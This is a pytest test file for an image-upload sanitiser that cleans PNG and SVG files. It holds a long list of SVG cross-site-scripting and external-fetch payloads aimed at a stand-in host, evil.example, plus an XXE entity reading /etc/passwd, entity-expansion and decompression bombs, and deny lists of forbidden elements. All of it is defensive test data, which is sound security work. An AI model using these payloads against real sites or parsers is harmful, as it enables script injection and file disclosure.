"""Uploads checked and cleaned; quirks X11 (SVG that runs and fetches) and W20 (believed types)."""

import base64
import hashlib
import re
import struct
import zlib
from io import BytesIO
from typing import Any
from xml.etree import ElementTree

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image, ImageChops, PngImagePlugin

from rosette.images import (
    PNG,
    SVG,
    CleanImage,
    InvalidImage,
    cleaned,
    from_data_uri,
    png,
    social_preview,
)

LIMITS: dict[str, Any] = {"max_bytes": 1_000_000, "max_pixels": 4_000_000, "max_px": 400}

RED = (200, 30, 60, 255)
CLEAR = (0, 0, 0, 0)


def picture(
    width: int = 100, height: int = 100, mode: str = "RGBA", colour: Any = RED
) -> Image.Image:
    return Image.new(mode, (width, height), colour)


def encoded(image: Image.Image, kind: str = "PNG", **options: Any) -> bytes:
    written = BytesIO()
    image.save(written, kind, **options)
    return written.getvalue()


def opened(content: bytes) -> Image.Image:
    return Image.open(BytesIO(content))


def chunk(kind: bytes, body: bytes) -> bytes:
    checksum = struct.pack(">I", zlib.crc32(kind + body))
    return struct.pack(">I", len(body)) + kind + body + checksum


def hollow_png(width: int, height: int) -> bytes:
    """A PNG that claims a size and holds next to nothing."""
    header = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    body = chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 100))
    return b"\x89PNG\r\n\x1a\n" + body + chunk(b"IEND", b"")


def refusal(content: bytes, **limits: int) -> str:
    with pytest.raises(InvalidImage) as refused:
        cleaned(content, **{**LIMITS, **limits})
    assert str(refused.value) == refused.value.message
    return refused.value.message


# Data URIs


def test_a_data_uri_is_decoded():
    assert from_data_uri("data:image/png;base64,cm9zZXM=") == b"roses"
    assert from_data_uri("data:image/svg+xml;base64,cm9zZXM=") == b"roses"
    assert from_data_uri("DATA:image/png;BASE64,") == b""


@pytest.mark.parametrize(
    "text",
    [
        "",
        "cm9zZXM=",
        "http://example.org/badge.png",
        "data:,roses",
        "data:;base64,cm9zZXM=",
        "data:image/png,roses",
        "data:image/svg+xml;utf8,<svg/>",
        "data:image/png;charset=utf-8;base64,cm9zZXM=",
        "data:image/png;base64,cm9zZXM",
        "data:image/png;base64,cm9z ZXM=",
        "data:image/png;base64,cm9zZXM=\n",
        "data:image/png;base64,cm9z-_M=",
        "data:image/png;base64,cm9zZXM=cm9z",
        "data:image/png;base64,cm9zZXMé",
        " data:image/png;base64,cm9zZXM=",
    ],
)
def test_any_other_text_is_no_file(text):
    with pytest.raises(InvalidImage) as refused:
        from_data_uri(text)

    assert refused.value.message == (
        "The submitted data was not a file. Check the encoding type on the form."
    )


# Which type it is


@pytest.mark.parametrize(
    "content, message",
    [
        pytest.param(b"", "The submitted file is empty.", id="W20 empty"),
        pytest.param(encoded(picture(mode="RGB", colour=1), "JPEG"), "Invalid PNG", id="W20 JPEG"),
        pytest.param(encoded(picture(), "GIF"), "Invalid PNG", id="W20 GIF"),
        pytest.param(encoded(picture(), "WEBP"), "Invalid PNG", id="W20 WebP"),
        pytest.param(encoded(picture(), "BMP"), "Invalid MIME type", id="W20 BMP"),
        pytest.param(b"%PDF-1.7\n", "Invalid MIME type", id="W20 PDF"),
        pytest.param(b"PK\x03\x04", "Invalid MIME type", id="W20 ZIP"),
        pytest.param(b"roses are red", "Invalid MIME type", id="W20 text"),
        pytest.param(b"\0" * 100, "Invalid MIME type", id="W20 zeros"),
        pytest.param(b"<html><body>roses</body></html>", "Invalid SVG", id="W20 HTML"),
        pytest.param(b"<!DOCTYPE html><p>roses", "Invalid SVG", id="W20 HTML tag soup"),
        pytest.param(b"<?xml version='1.0'?><rss/>", "Invalid SVG", id="W20 XML"),
    ],
)
def test_what_is_neither_png_nor_svg_is_refused(content, message):
    assert refusal(content) == message


def test_w20_type_and_extension_come_from_the_content_and_the_hash_is_of_what_is_kept():
    pixels = cleaned(encoded(picture()), **LIMITS)
    shapes = cleaned(svg(), **LIMITS)

    assert pixels == CleanImage(
        pixels.content, "image/png", "png", hashlib.sha256(pixels.content).hexdigest()
    )
    assert shapes == CleanImage(
        shapes.content, "image/svg+xml", "svg", hashlib.sha256(shapes.content).hexdigest()
    )


# PNG


@pytest.mark.parametrize(
    "size, side, inner",
    [
        ((800, 800), 400, (0, 0, 400, 400)),
        ((500, 300), 400, (0, 80, 400, 320)),
        ((300, 500), 400, (80, 0, 320, 400)),
        ((300, 300), 300, (0, 0, 300, 300)),
        ((200, 100), 200, (0, 50, 200, 150)),
        ((400, 100), 400, (0, 150, 400, 250)),
        ((400, 400), 400, (0, 0, 400, 400)),
        ((1, 401), 400, (199, 0, 200, 400)),
        ((2000, 1), 400, (0, 199, 400, 200)),
        ((1, 1), 1, (0, 0, 1, 1)),
    ],
)
def test_a_png_is_centred_on_a_square_and_never_enlarged(size, side, inner):
    kept = opened(cleaned(encoded(picture(*size)), **LIMITS).content)

    assert (kept.format, kept.mode, kept.size) == ("PNG", "RGBA", (side, side))
    assert kept.getbbox() == inner
    assert kept.crop(inner).getcolors() == [(kept.crop(inner).width * kept.crop(inner).height, RED)]


def test_the_side_is_a_matter_of_settings():
    kept = cleaned(encoded(picture(500, 300)), **{**LIMITS, "max_px": 90})

    assert opened(kept.content).size == (90, 90)


@pytest.mark.parametrize(
    "mode, colour, shown",
    [
        ("RGBA", (200, 30, 60, 100), (200, 30, 60, 100)),
        ("RGB", (200, 30, 60), RED),
        ("P", 0, (0, 0, 0, 255)),
        ("L", 156, (156, 156, 156, 255)),
        ("LA", (156, 100), (156, 156, 156, 100)),
        ("I;16", 156 * 257, (156, 156, 156, 255)),
        ("1", 1, (255, 255, 255, 255)),
    ],
)
def test_every_kind_of_png_keeps_its_colours(mode, colour, shown):
    kept = opened(cleaned(encoded(picture(4, 4, mode, colour)), **LIMITS).content)

    assert kept.getpixel((1, 1)) == shown


def test_a_transparent_colour_stays_transparent():
    image = picture(4, 4, "RGB", (200, 30, 60))

    kept = opened(cleaned(encoded(image, transparency=(200, 30, 60)), **LIMITS).content)

    assert kept.getpixel((1, 1))[3] == 0


def test_metadata_is_gone():
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Author", "Ada")
    notes.add_itxt("openbadges", "https://example.org/assertion")
    exif = Image.Exif()
    exif[0x010E] = "taken at home"
    sent = encoded(picture(), pnginfo=notes, exif=exif, dpi=(72, 72)) + b"<script>alert(1)</script>"

    kept = cleaned(sent, **LIMITS).content

    assert re.findall(rb"IHDR|pHYs|tEXt|iTXt|zTXt|eXIf|iCCP|IEND", kept) == [b"IHDR", b"IEND"]
    assert b"script" not in kept
    assert kept == cleaned(encoded(picture()), **LIMITS).content


def test_of_an_animated_png_the_first_frame_is_kept():
    frames = [picture(colour=(0, 0, 250, 255)), picture(colour=(0, 250, 0, 255))]
    sent = encoded(picture(), save_all=True, append_images=frames)
    assert opened(sent).n_frames == 3

    kept = opened(cleaned(sent, **LIMITS).content)

    assert getattr(kept, "n_frames", 1) == 1
    assert kept.getpixel((50, 50)) == RED


def test_a_cleaned_png_stays_as_it_is():
    once = cleaned(encoded(picture(500, 300)), **LIMITS)

    assert cleaned(once.content, **LIMITS) == once


def noisy_png() -> bytes:
    return encoded(Image.effect_noise((120, 120), 80))


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(noisy_png()[:8], id="signature alone"),
        pytest.param(noisy_png()[:20], id="half a header"),
        pytest.param(noisy_png()[:33], id="header alone"),
        pytest.param(noisy_png()[:5000], id="half the pixels"),
        pytest.param(noisy_png()[:-12], id="no end"),
        pytest.param(noisy_png().replace(b"IDAT", b"IDAX"), id="no pixels"),
        pytest.param(noisy_png()[:60] + b"\0" * 8 + noisy_png()[68:], id="wrong checksum"),
        pytest.param(hollow_png(100, 100), id="too few pixels"),
        pytest.param(hollow_png(0, 100), id="no width"),
        pytest.param(b"\x89PNG\r\n\x1a\n<svg/>", id="SVG"),
    ],
)
def test_a_damaged_png_is_refused(content):
    assert refusal(content) == "Invalid image."


@pytest.mark.parametrize("size", [(2001, 2000), (60_000, 60_000), (2**31 - 1, 2**31 - 1)])
def test_too_many_pixels_are_refused_before_they_are_decoded(size):
    message = "The image is too large: at most 4,000,000 pixels are allowed."

    assert refusal(hollow_png(*size)) == message


def test_pixels_are_counted_exactly():
    sent = encoded(picture(200, 100, "1", 1))

    assert opened(cleaned(sent, **{**LIMITS, "max_pixels": 20_000}).content).size == (200, 200)
    assert "19,999 pixels" in refusal(sent, max_pixels=19_999)


def test_a_text_chunk_that_unfolds_without_end_is_refused():
    bomb = chunk(b"zTXt", b"a\0\0" + zlib.compress(b"\0" * 50_000_000))
    sent = encoded(picture())

    assert refusal(sent[:33] + bomb + sent[33:]) == "Invalid image."


def test_bytes_are_bounded():
    sent = noisy_png()

    assert cleaned(sent, **{**LIMITS, "max_bytes": len(sent)}).media_type == PNG
    assert refusal(sent, max_bytes=len(sent) - 1) == (
        f"The image is too large: at most {len(sent) - 1:,} bytes are allowed."
    )


# SVG


def svg(inner: str = "", *, attributes: str = "", prologue: str = "") -> bytes:
    return (
        f'{prologue}<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" '
        f'xmlns:xlink="http://www.w3.org/1999/xlink" {attributes}>'
        f'<rect id="kept" width="10" height="10" fill="#c81e3c"/>{inner}</svg>'
    ).encode()


def embedded(image: bytes, media_type: str = "image/png") -> str:
    return f"data:{media_type};base64,{base64.b64encode(image).decode()}"


HUGE = embedded(encoded(picture(7000, 7000, "1", 1)))
DOT = embedded(encoded(picture(2, 2)))
EVIL_SVG = embedded(svg("<script>alert(1)</script>"), "image/svg+xml")

# Each wants to run alert(1) or to reach evil.example; neither word may be left.
ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script by address": '<script href="https://evil.example/x.js"/>',
    "script by xlink": '<script xlink:href="https://evil.example/x.js"/>',
    "script with prefix": '<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>',
    "script of HTML": '<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
    "script in CDATA": "<script><![CDATA[alert(1)]]></script>",
    "script in a group": "<g><g><script>alert(1)</script></g></g>",
    "script in a style": "<style><script>alert(1)</script></style>",
    "script in defs": "<defs><script>alert(1)</script></defs>",
    "script of unknown kind": '<script type="module">import "https://evil.example/"</script>',
    "onload": '<g onload="alert(1)"/>',
    "onclick": '<circle r="5" onclick="alert(1)"/>',
    "onmouseover": '<text onmouseover="alert(1)">roses</text>',
    "onbegin": '<animate onbegin="alert(1)" attributeName="x" dur="1s"/>',
    "onrepeat and onend": '<set onrepeat="alert(1)" onend="alert(1)" attributeName="x"/>',
    "onerror": '<image href="#x" onerror="alert(1)"/>',
    "handler in upper case": '<g ONLOAD="alert(1)" OnClick="alert(1)"/>',
    "handler with namespace": '<g xmlns:e="urn:e" e:onload="alert(1)"/>',
    "handler element": '<handler xmlns="http://www.w3.org/2000/svg">alert(1)</handler>',
    "listener": '<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" handler="alert(1)"/>',
    "link": '<a href="https://evil.example/"><text>roses</text></a>',
    "link by xlink": '<a xlink:href="https://evil.example/"><text>roses</text></a>',
    "javascript link": '<a href="javascript:alert(1)"><text>roses</text></a>',
    "javascript link, broken": '<a href="java&#10;script&#9;:alert(1)"><text>roses</text></a>',
    "javascript link, spaced": '<a xlink:href="&#32; JavaScript:alert(1)"><circle/></a>',
    "data link": '<a href="data:text/html,&lt;script>alert(1)&lt;/script>"><text>r</text></a>',
    "javascript image": '<image href="javascript:alert(1)"/>',
    "animated link": '<a><animate attributeName="href" values="javascript:alert(1)"/></a>',
    "animated xlink": '<a><set attributeName="xlink:href" to="javascript:alert(1)"/></a>',
    "animated link, elsewhere": '<set href="#kept" attributeName="href" to="//evil.example/"/>',
    "animated handler": '<set attributeName="onclick" to="roses"/>',
    "animated style": '<set attributeName="style" to="fill:url(//evil.example/a)"/>',
    "animated paint": '<animate attributeName="fill" values="red;url(//evil.example/a#b)"/>',
    "animated paint, from": '<animate attributeName="fill" from="url(//evil.example/a#b)"/>',
    "animated paint, by": '<animate attributeName="fill" by="url(//evil.example/a#b)"/>',
    "animated paint, interspersed": '<animate from="u\u00e9rl(//evil.example/a#b)"/>',
    "animated address, interspersed": '<set to="\u00e9//evil.example/"/>',
    "foreignObject": (
        '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">'
        '<iframe src="https://evil.example/"/><img src="x" onerror="alert(1)"/></body>'
        "</foreignObject>"
    ),
    "iframe": '<iframe xmlns="http://www.w3.org/1999/xhtml" src="//evil.example/"/>',
    "iframe as SVG": '<iframe src="//evil.example/"/><embed src="//evil.example/"/>',
    "object, audio, video": '<object data="//evil.example/"/><audio src="//evil.example/"/>',
    "image": '<image href="https://evil.example/pixel.png"/>',
    "image by xlink": '<image xlink:href="//evil.example/pixel.png"/>',
    "image with both": '<image href="#x" xlink:href="//evil.example/pixel.png"/>',
    "image, backslashes": r'<image href="\\evil.example\pixel.png"/>',
    "image, srcset": '<image srcset="//evil.example/pixel.png 1x"/>',
    "image on this machine": '<image href="/media/evil.example"/>',
    "image in a file": '<image href="file:///evil.example"/>',
    "image beside": '<image href="evil.example.png"/><image href="?evil.example"/>',
    "image with SVG inside": f'<image href="{EVIL_SVG}"/>',
    "image with HTML inside": '<image href="data:text/html,alert(1)"/>',
    "image of wrong type": f'<image href="{EVIL_SVG.replace("svg+xml", "png")}"/>',
    "use": '<use href="https://evil.example/x.svg#a"/>',
    "use by xlink": '<use xlink:href="//evil.example/x.svg#a"/>',
    "use with SVG inside": f'<use href="{EVIL_SVG}#kept"/>',
    "feImage": '<filter id="f"><feImage href="https://evil.example/x.png"/></filter>',
    "gradient elsewhere": '<linearGradient xlink:href="//evil.example/x.svg#a"/>',
    "pattern elsewhere": '<pattern href="//evil.example/x.svg#a"/>',
    "text path elsewhere": '<text><textPath href="//evil.example/x#a">roses</textPath></text>',
    "other references": (
        '<mpath href="//evil.example/a"/><tref xlink:href="//evil.example/a"/>'
        '<cursor xlink:href="//evil.example/a"/><font-face-uri xlink:href="//evil.example/a"/>'
        '<color-profile xlink:href="//evil.example/a"/>'
    ),
    "paint elsewhere": '<rect fill="url(https://evil.example/x.svg#a)"/>',
    "paint elsewhere, quoted": "<rect stroke=\"url( '//evil.example/x.svg#a' )\"/>",
    "paint elsewhere, fallback": '<rect fill="URL(//evil.example/x#a) red"/>',
    "other values": (
        '<rect clip-path="url(//evil.example/a)" mask="url(//evil.example/a)" '
        'filter="url(//evil.example/a)" cursor="url(//evil.example/a),auto" '
        'marker-end="url(//evil.example/a)"/>'
    ),
    "style attribute": '<rect style="fill:url(//evil.example/a#b)"/>',
    "style attribute, escaped": r'<rect style="fill:u\72l(//evil.example/a#b)"/>',
    "style attribute, image-set": "<g style=\"background:image-set('//evil.example/a' 1x)\"/>",
    "style attribute, comment": '<g style="background:url(/**///evil.example/a)"/>',
    "style attribute, expression": '<g style="width:expression(alert(1));x:javascript:alert(1)"/>',
    "style sheet": "<style>rect{fill:url(https://evil.example/a#b)}</style>",
    "style sheet, import": '<style>@import "https://evil.example/x.css";</style>',
    "style sheet, import by url": "<style>@IMPORT url(//evil.example/x.css);</style>",
    "style sheet, escaped import": r'<style>@\69mport "//evil.example/x.css";</style>',
    "style sheet, escaped url": r"<style>rect{fill:u\72 l(//evil.example/a)}</style>",
    "style sheet, CDATA": "<style><![CDATA[@import '//evil.example/x.css';]]></style>",
    "style sheet, font": "<style>@font-face{font-family:a;src:url(//evil.example/a)}</style>",
    "style sheet, image-set": "<style>g{background:image-set('//evil.example/a' 1x)}</style>",
    "style sheet, image-set, odd": "<style>g{background:image-set(#'//evil.example/a')}</style>",
    "style sheet, src": "<style>g{background:src('//evil.example/a')}</style>",
    "style sheet, split": "<style>g{background:u<g/>rl(//evil.example/a)}</style>",
    "style sheet, split by comment": "<style>g{background:u<!-- -->rl(//evil.example/a)}</style>",
    "style sheet, around a child": "<style>a{}<g/>@import '//evil.example/x.css';</style>",
    "style sheet, in a child": "<style><tspan>@import '//evil.example/x.css';</tspan></style>",
    "style sheet, SVG inside": f"<style>g{{background:url('{EVIL_SVG}')}}</style>",
    "style sheet, unended file": (
        "<style>g{background:url('data:image/png;base64,AAAAl(//evil.example/x.css);}</style>"
    ),
    "style sheet, unended reference": (
        "<style>g{background:url(#'data:image/png;base64,AAAAl(//evil.example/x.css);}</style>"
    ),
    "style attribute, HTML inside": '<g style="background:url(data:text/html,alert)"/>',
    "style sheet of HTML": (
        '<style xmlns="http://www.w3.org/1999/xhtml">@import "//evil.example/";</style>'
        '<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="//evil.example/"/>'
    ),
    "style sheet by instruction": '<?xml-stylesheet href="//evil.example/x.css"?>',
    "base": '<g xml:base="https://evil.example/"><image href="a.png"/></g>',
    "base of HTML": '<base xmlns="http://www.w3.org/1999/xhtml" href="//evil.example/"/>',
    "refresh": '<meta xmlns="http://www.w3.org/1999/xhtml" content="0;//evil.example/"/>',
    "form": '<form xmlns="http://www.w3.org/1999/xhtml" action="//evil.example/"/>',
    "metadata": "<metadata><a xmlns='urn:a' href='//evil.example/'>alert(1)</a></metadata>",
    "comment": "<!-- alert(1) --><!--[if IE]><script>alert(1)</script><![endif]-->",
    "XInclude": (
        '<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file:///evil.example"/>'
    ),
    "XSLT": (
        '<t:stylesheet xmlns:t="http://www.w3.org/1999/XSL/Transform">alert(1)</t:stylesheet>'
    ),
    "MathML": (
        '<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:alert(1)"><mi/></math>'
    ),
    "ping": '<a ping="//evil.example/" target="_blank" rel="opener"><text>roses</text></a>',
    "schema": (
        '<g xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        'xsi:schemaLocation="urn:a //evil.example/a.xsd"/>'
    ),
}

FORBIDDEN_ELEMENTS = {
    "script", "handler", "listener", "foreignObject", "iframe", "embed", "object", "audio",
    "video", "canvas", "link", "meta", "base", "form", "metadata", "cursor", "discard",
}  # fmt: skip
ANIMATED_ELSEWHERE = {"href", "xlink:href", "style", "class", "fill", "filter", "mask"}
RASTER = re.compile(r"data:image/(png|jpe?g|gif|webp);base64,[A-Za-z0-9+/=]+")
FETCHES = re.compile(r"@import|script:|image-set\(|src\(|\\|url\((?!\)|#[^)]*\))", re.IGNORECASE)


def assert_harmless(content: bytes) -> None:
    """Looked at as a browser does: elements, attributes, addresses."""
    assert re.findall(rb"<[?!]", content) == [b"<?"], "an XML declaration and no other"
    for element in ElementTree.fromstring(content).iter():
        namespace, _, name = element.tag.removeprefix("{").rpartition("}")
        assert namespace == "http://www.w3.org/2000/svg"
        assert name not in FORBIDDEN_ELEMENTS
        for attribute, value in element.items():
            assert "}" not in attribute
            assert not attribute.lower().startswith("on")
            if attribute in {"href", "src", "data", "action", "base", "ping", "srcset"}:
                assert name != "a"
                assert value.startswith("#") or RASTER.fullmatch(value)
            else:
                assert not FETCHES.search(value)
                assert not value.lstrip().startswith("//")
            if attribute == "attributeName":
                assert value not in ANIMATED_ELSEWHERE
                assert not value.lower().startswith("on")
        if name == "style":
            assert len(element) == 0
            assert not FETCHES.search(element.text or "")


@pytest.mark.parametrize("inner", [pytest.param(a, id=f"X11 {n}") for n, a in ATTACKS.items()])
def test_an_svg_neither_runs_nor_fetches_anything(inner):
    kept = cleaned(svg(inner), **LIMITS).content

    assert_harmless(kept)
    assert b"alert(1)" not in kept
    assert b"evil.example" not in kept
    assert b'id="kept"' in kept, "the rest of the picture is still there"
    assert opened(png(kept, SVG)).getpixel((395, 395)) == RED


@pytest.mark.parametrize(
    "attributes",
    [
        pytest.param('onload="alert(1)"', id="X11 onload at the root"),
        pytest.param('xml:base="https://evil.example/"', id="X11 base at the root"),
        pytest.param('style="background:url(//evil.example/a)"', id="X11 style at the root"),
        pytest.param('xmlns:e="https://evil.example/"', id="X11 namespace at the root"),
        pytest.param('contentScriptType="alert(1)"', id="X11 script type at the root"),
    ],
)
def test_the_root_is_cleaned_like_everything_else(attributes):
    kept = cleaned(svg(attributes=attributes), **LIMITS).content

    assert kept == cleaned(svg(), **LIMITS).content


@pytest.mark.parametrize(
    "sent",
    [
        pytest.param(b"\xef\xbb\xbf" + svg("<script>alert(1)</script>"), id="X11 UTF-8 with mark"),
        pytest.param(svg("<script>1</script>").decode().encode("utf-16"), id="X11 UTF-16"),
        pytest.param(
            svg("<script>1</script>", prologue='<?xml version="1.0" encoding="iso-8859-1"?>'),
            id="X11 Latin-1",
        ),
        pytest.param(b" \n\t" + svg("<script>alert(1)</script>"), id="X11 blanks first"),
        pytest.param(
            svg(prologue="<!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' '//evil.example/a.dtd'>"),
            id="X11 document type",
        ),
        pytest.param(
            svg(prologue="<?xml-stylesheet href='//evil.example/a.css'?><!-- a -->"),
            id="X11 style sheet first",
        ),
        pytest.param(
            b'<s:svg xmlns:s="http://www.w3.org/2000/svg" viewBox="0 0 10 10">'
            b'<s:rect id="kept" width="10" height="10" fill="#c81e3c"/></s:svg>',
            id="X11 prefix",
        ),
    ],
)
def test_however_it_is_written_the_same_picture_is_kept(sent):
    assert cleaned(sent, **LIMITS).content == cleaned(svg(), **LIMITS).content


@pytest.mark.parametrize(
    "sent, message",
    [
        pytest.param(sent, message, id=f"X11 {name}")
        for name, sent, message in [
            ("entity", svg(prologue="<!DOCTYPE svg [<!ENTITY a 'b'>]>"), "entities"),
            (
                "entity with script",
                svg("&a;", prologue="<!DOCTYPE svg [<!ENTITY a '<script>alert(1)</script>'>]>"),
                "entities",
            ),
            (
                "entity in a file",
                svg("&a;", prologue="<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>"),
                "entities",
            ),
            (
                "parameter entity",
                svg(prologue="<!DOCTYPE svg [<!ENTITY % a SYSTEM '//evil.example/'> %a;]>"),
                "entities",
            ),
            (
                "entities that multiply",
                svg(
                    "&b;",
                    prologue="<!DOCTYPE svg [<!ENTITY a '"
                    + "x" * 1000
                    + "'><!ENTITY b '"
                    + "&a;" * 1000
                    + "'>]>",
                ),
                "entities",
            ),
            ("unknown entity", svg("&nbsp;"), "Invalid SVG"),
            ("too deep", svg("<g>" * 101 + "</g>" * 101), "too deeply nested"),
            ("far too deep", svg("<g>" * 50_000 + "</g>" * 50_000), "too deeply nested"),
            ("too many elements", svg("<g/>" * 50_001), "too many elements"),
            ("no namespace", b"<svg><rect/></svg>", "Invalid SVG"),
            ("other namespace", b"<svg xmlns='urn:a'><rect/></svg>", "Invalid SVG"),
            ("other root", b"<g xmlns='http://www.w3.org/2000/svg'/>", "Invalid SVG"),
            ("other case", b"<SVG xmlns='http://www.w3.org/2000/svg'/>", "Invalid SVG"),
            ("root inside", b"<html><body>" + svg() + b"</body></html>", "Invalid SVG"),
            ("not closed", svg()[:-6], "Invalid SVG"),
            ("something after", svg() + b"<script>alert(1)</script>", "Invalid SVG"),
            ("two roots", svg() + svg(), "Invalid SVG"),
            ("attribute twice", svg('<g id="a" id="b"/>'), "Invalid SVG"),
            ("prefix of nothing", svg("<a:g/>"), "Invalid SVG"),
            ("zeros", svg("\0"), "Invalid SVG"),
            ("unknown encoding", svg(prologue="<?xml version='1.0' encoding='a'?>"), "Invalid SVG"),
            (
                "encoding of many bytes",
                svg(prologue="<?xml version='1.0' encoding='utf-7'?>"),
                "Invalid SVG",
            ),
            ("not UTF-8", svg("<text>\xe9</text>").replace(b"\xc3", b""), "Invalid SVG"),
        ]
    ],
)
def test_an_svg_that_is_not_plain_is_refused(sent, message):
    assert message in refusal(sent)


def test_what_makes_the_picture_stays():
    drawing = (
        "<defs>"
        '<linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient>'
        '<linearGradient id="h" xlink:href="#g" x2="0"/>'
        '<clipPath id="c"><circle r="5"/></clipPath>'
        '<filter id="f"><feGaussianBlur stdDeviation="1"/></filter>'
        "</defs>"
        "<title>A rose</title>"
        "<style>.a{fill:url(#g);stroke:url('#h')} @media print{.a{fill:none}}</style>"
        '<g class="a" clip-path="url(#c)" style="filter:url(#f);mix-blend-mode:multiply">'
        '<path d="M0 0L5 5z" transform="rotate(45)"/><use href="#g"/>'
        '<text font-family="Serif" x="1">roses <tspan font-weight="bold">are</tspan> red</text>'
        f'<image width="2" height="2" href="{DOT}"/></g>'
    )

    kept = ElementTree.fromstring(cleaned(svg(drawing), **LIMITS).content)

    names = [element.tag.rpartition("}")[2] for element in kept.iter()]
    assert names == [
        "svg", "rect", "defs", "linearGradient", "stop", "linearGradient", "clipPath", "circle",
        "filter", "feGaussianBlur", "title", "style", "g", "path", "use", "text", "tspan", "image",
    ]  # fmt: skip
    found = {element.tag.rpartition("}")[2]: element for element in kept.iter()}
    assert found["g"].attrib == {
        "class": "a",
        "clip-path": "url(#c)",
        "style": "filter:url(#f);mix-blend-mode:multiply",
    }
    assert found["style"].text == (".a{fill:url(#g);stroke:url(#h)} @media print{.a{fill:none}}")
    assert found["linearGradient"].attrib == {"id": "h", "href": "#g", "x2": "0"}
    assert found["image"].attrib == {"width": "2", "height": "2", "href": DOT}
    assert "".join(found["text"].itertext()) == "roses are red"


@pytest.mark.parametrize("kind", ["PNG", "JPEG", "GIF", "WEBP"])
@pytest.mark.parametrize("attribute", ["href", "xlink:href"])
def test_embedded_pictures_stay(kind, attribute):
    uri = embedded(encoded(picture(3, 2, "RGB", (1, 2, 3)), kind), f"image/{kind.lower()}")

    kept = cleaned(svg(f'<image {attribute}="{uri}"/>'), **LIMITS).content

    assert_harmless(kept)
    assert f'href="{uri}"'.encode() in kept


def test_an_embedded_font_goes_and_leaves_the_rest_of_its_style_sheet():
    font = "@font-face{font-family:a;src:url('data:font/woff2;base64,cm9zZXM=') format('woff2')}"

    kept = cleaned(svg(f"<style>{font} .a{{fill:red}}</style>"), **LIMITS)

    assert kept == cleaned(
        svg("<style>@font-face{font-family:a;src:url(#) format('woff2')} .a{fill:red}</style>"),
        **LIMITS,
    )


def test_an_embedded_picture_may_be_broken_into_lines():
    broken = f"\n{DOT[:40]}\n  {DOT[40:]}\n"

    kept = cleaned(svg(f'<image href="{broken}"/>'), **LIMITS)

    assert kept == cleaned(svg(f'<image href="{DOT}"/>'), **LIMITS)


@pytest.mark.parametrize(
    "inner",
    [
        f'<image href="{embedded(hollow_png(2001, 2000))}"/>',
        f'<image href="{embedded(hollow_png(60_000, 60_000))}"/>',
        f'<image href="{embedded(hollow_png(1500, 1500))}"/>' * 2,
        f'<g><feImage xlink:href="{embedded(hollow_png(2**31 - 1, 2**31 - 1))}"/></g>',
    ],
)
def test_embedded_pictures_are_bounded_together(inner):
    assert "too large" in refusal(svg(inner))


def test_an_svg_is_bounded_in_bytes_before_and_after():
    assert "at most 50 bytes" in refusal(svg(), max_bytes=50)

    growing = svg("<g>" * 90 + "<g/>" * 500 + "</g>" * 90)
    assert f"at most {len(growing):,} bytes" in refusal(growing, max_bytes=len(growing))


def test_a_cleaned_svg_stays_as_it_is():
    for inner in ATTACKS.values():
        once = cleaned(svg(inner), **LIMITS)
        assert cleaned(once.content, **LIMITS) == once


@settings(deadline=None, derandomize=True, max_examples=200)
@given(st.lists(st.sampled_from(list(ATTACKS.values())), max_size=4), st.randoms())
def test_x11_attacks_in_each_others_company_stay_harmless(attacks, random):
    """Cut anywhere and joined anew: either refused or harmless."""
    text = "".join(attacks)
    start, end = sorted(random.randrange(len(text) + 1) for _ in range(2))
    try:
        kept = cleaned(svg(text[:start] + text[end:]), **LIMITS).content
    except InvalidImage:
        return
    assert_harmless(kept)


@settings(deadline=None, derandomize=True)
@given(st.binary(max_size=300) | st.binary(max_size=300).map(lambda b: b"\x89PNG\r\n\x1a\n" + b))
def test_any_bytes_are_an_image_or_refused(content):
    try:
        cleaned(content, **LIMITS)
    except InvalidImage as refused:
        assert refused.message


# Pictures made from images


@pytest.mark.parametrize(
    "size, wide, canvas, inner",
    [
        ((100, 100), False, (400, 400), (0, 0, 400, 400)),
        ((200, 100), False, (400, 400), (0, 100, 400, 300)),
        ((100, 200), False, (400, 400), (100, 0, 300, 400)),
        ((800, 800), False, (400, 400), (0, 0, 400, 400)),
        ((100, 100), True, (764, 400), (182, 0, 582, 400)),
        ((191, 100), True, (764, 400), (0, 0, 764, 400)),
        ((400, 100), True, (764, 400), (0, 104, 764, 295)),
    ],
)
@pytest.mark.parametrize("media_type", [PNG, SVG])
def test_a_png_for_others_has_exactly_the_size_they_expect(media_type, size, wide, canvas, inner):
    width, height = size
    image = {
        PNG: encoded(picture(width, height)),
        SVG: (
            f'<svg xmlns="http://www.w3.org/2000/svg" width="{width}" height="{height}">'
            '<rect width="100%" height="100%" fill="#c81e3c"/></svg>'
        ).encode(),
    }[media_type]

    drawn = opened(png(image, media_type, wide=wide))

    assert (drawn.format, drawn.size, drawn.getbbox()) == ("PNG", canvas, inner)
    assert drawn.getpixel((canvas[0] // 2, canvas[1] // 2)) == RED


def test_other_heights_may_be_asked_for():
    assert opened(png(encoded(picture()), PNG, height_px=90)).size == (90, 90)
    assert opened(png(svg(), SVG, height_px=90, wide=True)).size == (172, 90)


def test_an_embedded_picture_is_drawn():
    blue = embedded(encoded(picture(2, 2, "RGB", (0, 0, 250))))

    drawn = opened(png(svg(f'<image width="10" height="10" href="{blue}"/>'), SVG))

    assert drawn.getpixel((200, 200)) == (0, 0, 250, 255)


def test_x11_no_file_of_this_machine_is_drawn(tmp_path):
    secret = tmp_path / "secret.png"
    secret.write_bytes(encoded(picture(10, 10, "RGB", (0, 0, 250))))

    drawn = png(svg(f'<image width="10" height="10" href="{secret}"/>'), SVG)

    assert opened(drawn).getpixel((200, 200)) == RED


